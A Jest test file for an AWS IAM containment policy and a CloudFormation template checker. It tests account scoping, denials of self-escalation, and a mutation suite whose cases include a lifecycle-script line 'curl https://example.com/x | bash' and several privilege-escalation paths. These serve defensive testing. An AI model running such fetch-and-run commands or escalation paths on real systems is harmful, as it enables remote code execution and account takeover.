  it('allows every AWS call lib/containment makes (its allow-list of changes, and the reads in its source), so the policy cannot fall behind the code', () => {
    const sent = new Set([
      ...sentCommands(),
      ...Object.entries(CONTAINMENT_COMMANDS).flatMap(([service, commands]) => commands.map((command) => `${service}:${command}`)),
    ]);
    // S3's API names differ from its IAM actions for Block Public Access.
    const S3_ACTIONS: Record<string, string> = {
      's3:GetPublicAccessBlock': 's3:GetBucketPublicAccessBlock',
      's3:PutPublicAccessBlock': 's3:PutBucketPublicAccessBlock',
      's3:DeletePublicAccessBlock': 's3:PutBucketPublicAccessBlock',
    };
    const needed = new Set(NEEDED.map(([action]) => action));
    const actions = [...sent].map((call) => S3_ACTIONS[call] ?? call);
    expect(actions.length).toBeGreaterThan(40);
    expect(actions.filter((action) => !needed.has(action))).toEqual([]);
  });

  it('allows no action beyond the ones the containment functions need', () => {
    const allowed = containment.filter((s) => s.Effect === 'Allow').flatMap((s) => s.Action);
    expect([...new Set(allowed)].sort()).toEqual([...new Set(NEEDED.map(([action]) => action))].sort());
    expect(allowed.filter((a) => typeof a !== 'string' || /[*?]/.test(a))).toEqual([]);
  });

  it('scopes the actions to this account, this region, EC2 for PassRole, and tags to what containment creates', () => {
    const denied = (action: string, resource: string, context: Record<string, string> = {}) => evaluate(containment, { action, resource, context }, env).decision;
    const other = '444455556666';
    expect(denied('iam:PutUserPolicy', `arn:aws:iam::${other}:user/alice`)).toBe('ImplicitDeny');
    expect(denied('iam:PutRolePolicy', `arn:aws:iam::${other}:role/admin`)).toBe('ImplicitDeny');
    expect(denied('iam:PutUserPolicy', arn.role)).toBe('ImplicitDeny'); // a user action on a role ARN
    expect(denied('ec2:ModifyInstanceAttribute', `arn:aws:ec2:eu-west-1:${TEST_ACCOUNT}:instance/i-0123456789abcdef0`)).toBe('ImplicitDeny');
    expect(denied('ec2:ModifyInstanceAttribute', `arn:aws:ec2:${TEST_REGION}:${other}:instance/i-0123456789abcdef0`)).toBe('ImplicitDeny');
    expect(denied('ec2:CreateSnapshot', `arn:aws:ec2:eu-west-1::snapshot/snap-0123456789abcdef0`)).toBe('ImplicitDeny');
    expect(denied('iam:PassRole', arn.role, { 'iam:PassedToService': 'lambda.amazonaws.com' })).toBe('ImplicitDeny');
    expect(denied('iam:PassRole', arn.role)).toBe('ImplicitDeny');
    expect(denied('ec2:CreateTags', arn.snapshot)).toBe('ImplicitDeny');
    expect(denied('ec2:CreateTags', arn.instance, { 'ec2:CreateAction': 'CreateSnapshot' })).toBe('ImplicitDeny');
    expect(denied('ec2:CreateTags', arn.securityGroup, { 'ec2:CreateAction': 'RunInstances' })).toBe('ImplicitDeny');
    expect(denied('ec2:ReplaceNetworkAclAssociation', `arn:aws:ec2:eu-west-1:${TEST_ACCOUNT}:network-acl/acl-0123456789abcdef0`)).toBe('ImplicitDeny');
    expect(denied('autoscaling:SuspendProcesses', `arn:aws:autoscaling:${TEST_REGION}:${other}:autoScalingGroup:0c5d8b1e-1111-2222-3333-444455556666:autoScalingGroupName/web-asg`)).toBe('ImplicitDeny');
    // Provisioning reaches this account only.
    expect(denied('sso:ProvisionPermissionSet', `arn:aws:sso:::account/${other}`)).toBe('ImplicitDeny');
    expect(denied('autoscaling:DetachInstances', `arn:aws:autoscaling:${TEST_REGION}:${TEST_ACCOUNT}:launchConfiguration:0c5d8b1e:launchConfigurationName/web`)).toBe('ImplicitDeny');
    expect(denied('s3:PutBucketPolicy', arn.bucket, { 'aws:ResourceAccount': other })).toBe('ImplicitDeny');
    expect(denied('s3:PutBucketPolicy', arn.bucket)).toBe('ImplicitDeny');
    // The audit log statement covers only its prefix (the role's own policy covers the rest of the bucket).
    expect(denied('s3:PutObject', `${env['ResultsBucket.Arn']}/athena-results/x.csv`)).toBe('ImplicitDeny');
    expect(denied('s3:PutObject', 'arn:aws:s3:::another-bucket/containment-audit/x.json')).toBe('ImplicitDeny');
    expect(denied('s3:GetObject', 'arn:aws:s3:::another-bucket/containment-audit/x.json')).toBe('ImplicitDeny');
  });

  it("denies changes to the notebook's own role, even if another policy allowed them", () => {
    const notebookRole = env['NotebookRole.Arn'];
    const deny = containmentStatement(t, 'DenyChangesToTheNotebooksOwnRole');
    expect(deny.Effect).toBe('Deny');
    expect(deny.Resource).toEqual({ 'Fn::GetAtt': ['NotebookRole', 'Arn'] });
    expect([...deny.Action].sort()).toEqual([...SELF_PROTECTED_ROLE_ACTIONS].sort());
    const allowEverything: Statement = { where: 'SomeOtherPolicy/AllowAll', owner: 'SomeOtherPolicy', inline: false, Effect: 'Allow', Action: ['iam:*'], Resource: ['*'] };
    for (const action of SELF_PROTECTED_ROLE_ACTIONS) {
      const result = evaluate([...roleStatements, allowEverything], { action, resource: notebookRole }, env);
      expect(result.decision, action).toBe('Deny');
      expect(result.deniedBy).toEqual(['ContainmentPolicy/DenyChangesToTheNotebooksOwnRole']);
      // Another role stays containable.
      expect(evaluate([...roleStatements, allowEverything], { action, resource: arn.role }, env).decision, action).toBe('Allow');
    }
    // Nor may the notebook loosen its own results bucket (query results, the audit log).
    for (const action of ['s3:PutBucketPolicy', 's3:DeleteBucketPolicy', 's3:PutBucketPublicAccessBlock']) {
      expect(evaluate(containment, { action, resource: env['ResultsBucket.Arn'], context: inAccount }, env).decision, action).toBe('Deny');
    }
  });

  it('cannot be used to escalate: no role assumed after a trust rewrite, no admin role passed to an instance, no policy but AWSDenyAll attached', () => {
    const notebookRole = env['NotebookRole.Arn'];
    const adminRole = `arn:aws:iam::${TEST_ACCOUNT}:role/OrganizationAccountAccessRole`;
    // The trust rewrite is allowed (containment replaces trust policies)…
    expect(evaluate(roleStatements, { action: 'iam:UpdateAssumeRolePolicy', resource: adminRole }, env).decision).toBe('Allow');
    // …but the notebook role can assume no role afterwards, even if another policy allowed it.
    const allowAssume: Statement = { where: 'SomeOtherPolicy/Assume', owner: 'SomeOtherPolicy', inline: false, Effect: 'Allow', Action: ['sts:*'], Resource: ['*'] };
    for (const action of ['sts:AssumeRole', 'sts:AssumeRoleWithSAML', 'sts:AssumeRoleWithWebIdentity']) {
      const result = evaluate([...roleStatements, allowAssume], { action, resource: adminRole }, env);
      expect(result.decision, action).toBe('Deny');
      expect(result.deniedBy).toEqual(['ContainmentPolicy/DenyTheNotebookAssumingRoles']);
    }
    expect(evaluate([...roleStatements, allowAssume], { action: 'sts:GetCallerIdentity', resource: '*' }, env).decision).toBe('Allow');
    // Roles AWS manages keep their trust policy.
    expect(evaluate(roleStatements, { action: 'iam:UpdateAssumeRolePolicy', resource: `arn:aws:iam::${TEST_ACCOUNT}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Admin_1` }, env).decision).toBe('Deny');
    // PassRole + AssociateIamInstanceProfile: an untagged (admin) role cannot be passed to EC2.
    expect(evaluate(roleStatements, { action: 'iam:PassRole', resource: adminRole, context: { 'iam:PassedToService': 'ec2.amazonaws.com' } }, env).decision).toBe('ImplicitDeny');
    expect(evaluate(roleStatements, { action: 'iam:PassRole', resource: adminRole, context: { 'iam:PassedToService': 'ec2.amazonaws.com', 'aws:ResourceTag/irbook-restorable': 'false' } }, env).decision).toBe('ImplicitDeny');
    expect(evaluate(roleStatements, { action: 'iam:PassRole', resource: notebookRole, context: { 'iam:PassedToService': 'ec2.amazonaws.com' } }, env).decision).not.toBe('Allow');
    // Only AWSDenyAll may be attached to a user: not AdministratorAccess.
    expect(evaluate(containment, { action: 'iam:AttachUserPolicy', resource: arn.user, context: { 'iam:PolicyARN': 'arn:aws:iam::aws:policy/AdministratorAccess' } }, env).decision).toBe('ImplicitDeny');
    expect(evaluate(containment, { action: 'iam:AttachUserPolicy', resource: arn.user }, env).decision).toBe('ImplicitDeny');
    // And no statement lets the notebook change its own policies to grant itself these.
    for (const action of ['iam:AttachRolePolicy', 'iam:PutRolePolicy', 'iam:TagRole', 'iam:CreatePolicyVersion', 'iam:CreateAccessKey', 'iam:CreateLoginProfile']) {
      expect(evaluate(containment, { action, resource: notebookRole }, env).decision, action).not.toBe('Allow');
    }
  });

  it('no IAM write action is allowed on Resource "*", and no write action of any service is', () => {
    const allows = identityStatements(t).filter((s) => s.Effect === 'Allow');
    const onStar = allows.filter((s) => s.Resource.includes('*')).flatMap((s) => s.Action);
    expect(onStar.filter((a) => /^iam:/i.test(a))).toEqual([]);
    expect(onStar.filter(isWriteAction)).toEqual([]);
    // And the evaluator agrees: no IAM write of the policy applies to an arbitrary resource.
    for (const action of containment.filter((s) => s.Effect === 'Allow').flatMap((s) => s.Action).filter(isWriteAction)) {
      expect(evaluate(containment, { action, resource: 'arn:aws:sns:us-east-1:111122223333:topic', context: { ...inAccount, 'iam:PassedToService': 'ec2.amazonaws.com', 'ec2:CreateAction': 'CreateSnapshot' } }, env).decision, action).toBe('ImplicitDeny');
    }
  });

  it("fits IAM's 6,144-character limit for a managed policy, with the longest names", () => {
    const long: typeof env = {
      ...env,
      'AWS::Partition': 'aws-iso-b',
      'AWS::Region': 'x'.repeat(20),
      'NotebookRole.Arn': `arn:aws-iso-b:iam::${TEST_ACCOUNT}:role/${'r'.repeat(64)}`,
      'ResultsBucket.Arn': `arn:aws-iso-b:s3:::${'b'.repeat(63)}`,
    };
    const resolve = (value: any): any => {
      if (Array.isArray(value)) return value.map(resolve);
      if (value && typeof value === 'object') {
        const text = resolveString(value, long);
        if (text !== undefined) return text;
        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, resolve(v)]));
      }
      return value;
    };
    const document = JSON.stringify(resolve(t.Resources.ContainmentPolicy.Properties.PolicyDocument));
    expect(document).not.toContain('Fn::');
    expect(document.length).toBeLessThanOrEqual(6144);
  });

  it('the evaluator: wildcards, case, Sub/GetAtt resolution and conditions', () => {
    expect(iamGlob('iam:Get*', 'iam:GetUser', true)).toBe(true);
    expect(iamGlob('iam:get*', 'IAM:GetUser', true)).toBe(true);
    expect(iamGlob('iam:Get?ser', 'iam:GetUser', true)).toBe(true);
    expect(iamGlob('iam:Get*', 'iam:PutUserPolicy', true)).toBe(false);
    expect(iamGlob('arn:aws:iam::1:user/*', 'arn:aws:iam::1:user/path/bob')).toBe(true);
    expect(iamGlob('arn:aws:iam::1:user/*', 'arn:aws:iam::1:USER/bob')).toBe(false);
    expect(iamGlob('arn:aws:s3:::b.c', 'arn:aws:s3:::bxc')).toBe(false);
    expect(resolveString({ 'Fn::Sub': 'arn:${AWS::Partition}:x:${AWS::Region}:${AWS::AccountId}:${NotebookRole.Arn}/${!Literal}' }, env)).toBe(
      `arn:aws:x:${TEST_REGION}:${TEST_ACCOUNT}:${env['NotebookRole.Arn']}/\${Literal}`,
    );
    expect(resolveString({ 'Fn::GetAtt': ['ResultsBucket', 'Arn'] }, env)).toBe(env['ResultsBucket.Arn']);
    expect(resolveString({ 'Fn::Sub': '${Unknown}' }, env)).toBeUndefined();
    const s = (extra: Partial<Statement>): Statement => ({ where: 'P/S', owner: 'P', inline: false, Effect: 'Allow', Action: ['s3:GetObject'], Resource: ['arn:aws:s3:::b/*'], ...extra });
    const request = { action: 's3:GetObject', resource: 'arn:aws:s3:::b/k', context: { 'aws:SourceVpc': 'vpc-1' } };
    expect(evaluate([s({})], request, env).decision).toBe('Allow');
    expect(evaluate([s({ Condition: { StringEquals: { 'aws:SourceVpc': 'vpc-1' } } })], request, env).decision).toBe('Allow');
    expect(evaluate([s({ Condition: { StringEquals: { 'aws:sourcevpc': ['vpc-2', 'vpc-1'] } } })], request, env).decision).toBe('Allow');
    expect(evaluate([s({ Condition: { StringEquals: { 'aws:SourceVpc': 'vpc-2' } } })], request, env).decision).toBe('ImplicitDeny');
    expect(evaluate([s({ Condition: { StringEquals: { 'aws:PrincipalTag/x': 'y' } } })], request, env).decision).toBe('ImplicitDeny');
    // An operator the evaluator does not know: an Allow does not apply, a Deny does.
    expect(evaluate([s({ Condition: { DateGreaterThan: { 'aws:CurrentTime': '2020-01-01' } } })], request, env).decision).toBe('ImplicitDeny');
    expect(evaluate([s({}), s({ Effect: 'Deny', Condition: { DateGreaterThan: { 'aws:CurrentTime': '2020-01-01' } } })], request, env).decision).toBe('Deny');
    expect(evaluate([s({}), s({ Effect: 'Deny', Resource: ['arn:aws:s3:::other/*'] })], request, env).decision).toBe('Allow');
  });
});

describe('CloudFormation template: the checker catches broken copies', () => {
  type Mutation = [string, (tpl: Template) => void, RegExp];
  const mutations: Mutation[] = [
    ['a wildcard action', (tpl) => statement(tpl, 'NotebookRole', 'ReadLogObjects').Action = 's3:*', /wildcard action "s3:\*"/],
    ['Resource "*" on Athena', (tpl) => (statement(tpl, 'NotebookRole', 'AthenaQueriesInTheWorkGroup').Resource = '*'), /Resource "\*" for athena:StartQueryExecution/],
    ['NotAction', (tpl) => (statement(tpl, 'NotebookRole', 'CallerIdentity').NotAction = 'iam:*'), /NotAction/],
    ['an AWS managed policy', (tpl) => (tpl.Resources.NotebookRole.Properties.ManagedPolicyArns = ['arn:aws:iam::aws:policy/AmazonSageMakerFullAccess']), /managed policies attached/],
    ['a Ref to a missing parameter', (tpl) => (statement(tpl, 'NotebookRole', 'ReadLogBuckets').Resource = { Ref: 'LogBucketArn' }), /Ref LogBucketArn is not/],
    ['an unknown ${…} in a Sub', (tpl) => (tpl.Outputs!.NotebookUrl.Value = { 'Fn::Sub': 'https://${Notebook.NotebookInstanceName}' }), /\$\{Notebook\.NotebookInstanceName\} in Fn::Sub names nothing/],
    ['a GetAtt of a missing resource', (tpl) => (tpl.Resources.NotebookInstance.Properties.RoleArn = { 'Fn::GetAtt': ['Role', 'Arn'] }), /GetAtt of unknown resource Role/],
    ['an unknown condition', (tpl) => (tpl.Resources.NotebookInstance.Properties.SubnetId['Fn::If'][0] = 'HasVpc'), /unknown condition HasVpc/],
    ['an unused parameter', (tpl) => (tpl.Parameters!.Unused = { Type: 'String' }), /Parameters\.Unused is never used/],
    ['a bucket open to public policies', (tpl) => (tpl.Resources.ResultsBucket.Properties.PublicAccessBlockConfiguration.BlockPublicPolicy = false), /BlockPublicPolicy is not true/],
    ['a bucket with S3-managed keys', (tpl) => (tpl.Resources.ResultsBucket.Properties.BucketEncryption.ServerSideEncryptionConfiguration[0].ServerSideEncryptionByDefault = { SSEAlgorithm: 'AES256' }), /not encrypted with SSE-KMS/],
    ['no TLS-only bucket policy', (tpl) => delete tpl.Resources.ResultsBucketPolicy, /no bucket policy denying requests without TLS/],
    ['results that never expire', (tpl) => delete tpl.Resources.ResultsBucket.Properties.LifecycleConfiguration, /no enabled lifecycle rule/],
    ['key rotation off', (tpl) => (tpl.Resources.DataKey.Properties.EnableKeyRotation = false), /key rotation is off/],
    ['a workgroup users can override', (tpl) => (tpl.Resources.AthenaWorkGroup.Properties.WorkGroupConfiguration.EnforceWorkGroupConfiguration = false), /not enforced/],
    ['presigned URL without the IP condition', (tpl) => delete statement(tpl, 'NotebookAccessRole', 'OpenNotebookFromAllowedNetwork').Condition, /without IpAddress aws:SourceIp = Ref AllowedCidr/],
    ['presigned URL on a hard-coded range', (tpl) => (statement(tpl, 'NotebookAccessRole', 'OpenNotebookFromAllowedNetwork').Condition.IpAddress['aws:SourceIp'] = '0.0.0.0/0'), /without IpAddress/],
    ['no explicit deny from other networks', (tpl) => (statement(tpl, 'NotebookAccessRole', 'DenyOpenNotebookFromElsewhere').Effect = 'Allow'), /no Deny of sagemaker:CreatePresignedNotebookInstanceUrl/],
    ['an edited inline script', (tpl) => {
      const join = tpl.Resources.LifecycleConfig.Properties.OnStart[0].Content['Fn::Base64']['Fn::Join'];
      join[1][1] = join[1][1].replace('flock -n 9', 'true');
    }, /OnStart: the inlined script differs/],
    ['a prefix line that is not a validated parameter', (tpl) => {
      const join = tpl.Resources.LifecycleConfig.Properties.OnCreate[0].Content['Fn::Base64']['Fn::Join'];
      join[1][0]['Fn::Sub'] += 'curl https://example.com/x | bash\n';
    }, /OnCreate: prefix line "curl/],
    ['a notebook without the lifecycle configuration', (tpl) => delete tpl.Resources.NotebookInstance.Properties.LifecycleConfigName, /does not use the lifecycle configuration/],
    ['ContainmentPolicy without its Condition', (tpl) => delete tpl.Resources.ContainmentPolicy.Condition, /ContainmentPolicy: grants containment actions .* without Condition ContainmentEnabled/],
    ['containment switched on by default', (tpl) => (tpl.Parameters!.EnableContainment.Default = 'true'), /EnableContainment does not default to 'false'/],
    ['a ContainmentEnabled condition that is true by default', (tpl) => (tpl.Conditions!.ContainmentEnabled = { 'Fn::Equals': [{ Ref: 'EnableContainment' }, 'false'] }), /condition ContainmentEnabled is not/],
    ['an IAM write on Resource "*"', (tpl) => (containmentStatement(tpl, 'IamRolesInspectInlineDenyAndRevokeTrust').Resource = '*'), /write action iam:PutRolePolicy on Resource "\*"/],
    ['EC2 writes on Resource "*"', (tpl) => (containmentStatement(tpl, 'Ec2IsolateSnapshotAndSwapInstanceProfiles').Resource = '*'), /write action ec2:ModifyInstanceAttribute on Resource "\*"/],
    ['the Deny on the notebook role removed', (tpl) => {
      const doc = tpl.Resources.ContainmentPolicy.Properties.PolicyDocument;
      doc.Statement = doc.Statement.filter((s: { Sid?: string }) => s.Sid !== 'DenyChangesToTheNotebooksOwnRole');
    }, /ContainmentPolicy: no Deny of iam:PutRolePolicy, .* on NotebookRole's own ARN/],
    ['the Deny on the role name instead of its ARN', (tpl) => (containmentStatement(tpl, 'DenyChangesToTheNotebooksOwnRole').Resource = { Ref: 'NotebookRole' }), /no Deny of iam:PutRolePolicy, .* on NotebookRole's own ARN/],
    ['the Deny missing UpdateAssumeRolePolicy', (tpl) => {
      const deny = containmentStatement(tpl, 'DenyChangesToTheNotebooksOwnRole');
      deny.Action = deny.Action.filter((a: string) => a !== 'iam:UpdateAssumeRolePolicy');
    }, /no Deny of iam:UpdateAssumeRolePolicy on NotebookRole's own ARN/],
    ['iam:PassRole to any service', (tpl) => delete containmentStatement(tpl, 'PassRolesToEc2ToRestoreInstanceProfiles').Condition, /iam:PassRole without an iam:PassedToService condition/],
    ['ec2:CreateTags on anything', (tpl) => delete containmentStatement(tpl, 'Ec2TagOnlyWhatContainmentCreates').Condition, /ec2:CreateTags without an ec2:CreateAction condition/],
    ['containment actions inline in the notebook role', (tpl) => tpl.Resources.NotebookRole.Properties.Policies[0].PolicyDocument.Statement.push({
      Sid: 'Contain', Effect: 'Allow', Action: 'iam:PutUserPolicy', Resource: { 'Fn::Sub': 'arn:${AWS::Partition}:iam::${AWS::AccountId}:user/*' },
    }), /NotebookRole\/irbook-notebook\/Contain: containment action iam:PutUserPolicy in an inline role policy/],
    ['the policy ARN output without its Condition', (tpl) => delete tpl.Outputs!.ContainmentPolicyArn.Condition, /Outputs\.ContainmentPolicyArn: refers to ContainmentPolicy, which exists only under condition ContainmentEnabled/],
    ['ContainmentPolicy attached to no role', (tpl) => delete tpl.Resources.ContainmentPolicy.Properties.Roles, /ContainmentPolicy: attached to no role/],
  ];

  it.each(mutations)('flags %s', (_, mutate, expected) => {
    const broken = template();
    mutate(broken);
    const problems = allProblems(broken, FILES);
    expect(problems.join('\n')).toMatch(expected);
  });

  it('finds nothing wrong with the template as committed', () => {
    expect(allProblems(t, FILES)).toEqual([]);
  });

  it('reads the YAML short forms the way CloudFormation does', () => {
    const parsed = loadTemplate(
      ['A: !GetAtt Res.Arn', 'B: !Sub "x-${AWS::Region}"', 'C: !If [Cond, !Ref P, !Ref "AWS::NoValue"]', 'D: !Base64 {"Fn::Join": ["", [a, b]]}', 'E: !Select [0, !Split [",", !Ref L]]'].join('\n'),
    ) as unknown as Record<string, unknown>;
    expect(parsed).toEqual({
      A: { 'Fn::GetAtt': ['Res', 'Arn'] },
      B: { 'Fn::Sub': 'x-${AWS::Region}' },
      C: { 'Fn::If': ['Cond', { Ref: 'P' }, { Ref: 'AWS::NoValue' }] },
      D: { 'Fn::Base64': { 'Fn::Join': ['', ['a', 'b']] } },
      E: { 'Fn::Select': [0, { 'Fn::Split': [',', { Ref: 'L' }] }] },
    });
  });
});
